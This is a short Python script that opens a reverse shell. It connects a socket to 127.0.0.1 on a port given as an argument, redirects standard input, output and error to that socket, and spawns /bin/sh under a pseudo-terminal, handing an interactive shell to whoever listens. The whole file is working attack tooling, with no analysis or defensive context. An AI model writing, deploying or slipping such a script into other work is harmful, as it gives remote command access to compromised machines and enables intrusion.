"""A shell on a terminal of its own, carried to the caller. usage: python3 reverse_shell_pty.py PORT"""
import os, pty, socket, sys
caller = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for stream in range(3):
    os.dup2(caller.fileno(), stream)
pty.spawn("/bin/sh")
